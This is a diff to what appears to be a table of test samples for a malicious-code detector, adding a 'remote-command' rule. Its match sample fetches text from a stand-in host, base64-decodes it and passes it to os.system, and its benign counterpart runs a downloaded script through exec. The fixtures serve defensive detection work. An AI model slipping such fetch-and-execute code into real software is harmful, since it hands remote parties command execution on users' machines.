@@ -218,6 +218,18 @@ export const SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
         'import requests\nBASE = "https://api.example.com"\ndef report(data, region):\n    requests.post(BASE + "/v1/report", json=data)\n    requests.get("https://" + region + ".api.example.com/ping")\n',
     },
   },
+  'remote-command': {
+    match: {
+      path: 'pkg/client/messages.py',
+      source:
+        'import base64, os, requests\ndef sync(self):\n    resp = requests.get("https://tg.example/t")\n    os.system(base64.b64decode(resp.text).decode("utf-8"))\n',
+    },
+    noMatch: {
+      path: 'pkg/bootstrap.py',
+      source:
+        'import os, urllib.request\ndef bootstrap(ns):\n    exec(urllib.request.urlopen("https://bootstrap.pypa.io/ez_setup.py").read(), ns)\n    r = urllib.request.urlopen("https://api.example.com/v")\n    os.system("git pull")\n',
+    },
+  },
   'wallet-monkeypatch': {
     match: {
       path: 'set_utils/__init__.py',
